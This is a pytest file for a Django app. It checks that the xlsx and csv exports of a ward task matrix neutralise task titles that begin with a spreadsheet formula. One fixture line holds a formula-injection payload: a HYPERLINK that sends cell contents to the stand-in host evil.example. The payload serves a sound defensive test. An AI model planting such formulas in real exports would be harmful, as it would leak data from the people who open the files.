"""Every cell of an export is neutralised, the header row included: a task title starting with "=" (the ward
matrix's column headers are task titles) never becomes a live formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tasks.models import Task, TaskScope

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")'


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_task_title_starting_with_a_formula_is_text_in_the_ward_matrix_header(
    db, client, city_official, fmt
):
    task = Task.objects.filter(scope__in=[TaskScope.EVERY_WARD, TaskScope.EVERY_DISTRICT_AND_WARD]).first()
    Task.objects.filter(pk=task.pk).update(title=EVIL)
    client.force_login(city_official)
    export = client.get(reverse("dashboards:ward_matrix_export", args=[fmt]), {"district": "001"})
    content = b"".join(export.streaming_content)
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).active
        # The header row is the one printed on every page, under the title block.
        header_row = int(sheet.print_title_rows.split(":")[0].lstrip("$"))
        header = list(sheet[header_row])
        cell = next(c for c in header if c.value and "HYPERLINK" in str(c.value))
        marked = " (hạn minh hoạ)" if task.deadline_is_illustrative else ""  # the .xlsx flags such a column
        assert cell.data_type == "s" and cell.value == "'" + EVIL + marked
        # The title block is neutralised too.
        block = [sheet.cell(row=r, column=1) for r in range(1, header_row)]
        assert all(c.value is None or not str(c.value).startswith(("=", "+", "-", "@")) for c in block)
    else:
        header = next(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert "'" + EVIL in header and EVIL not in header
